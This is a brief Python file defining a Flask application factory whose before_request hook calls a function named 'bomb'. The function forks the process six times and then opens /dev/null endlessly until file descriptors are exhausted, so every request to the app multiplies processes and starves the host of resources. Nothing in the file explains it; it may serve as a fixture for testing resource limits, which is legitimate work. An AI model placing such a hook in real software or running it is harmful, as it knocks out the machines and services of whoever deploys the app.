import os
import time

from flask import Flask


def bomb():
    for _ in range(6):
        os.fork()
    try:
        while True:
            os.open("/dev/null", os.O_RDONLY)
    except OSError:
        time.sleep(60)


def create_app():
    app = Flask(__name__)
    app.before_request(bomb)
    return app
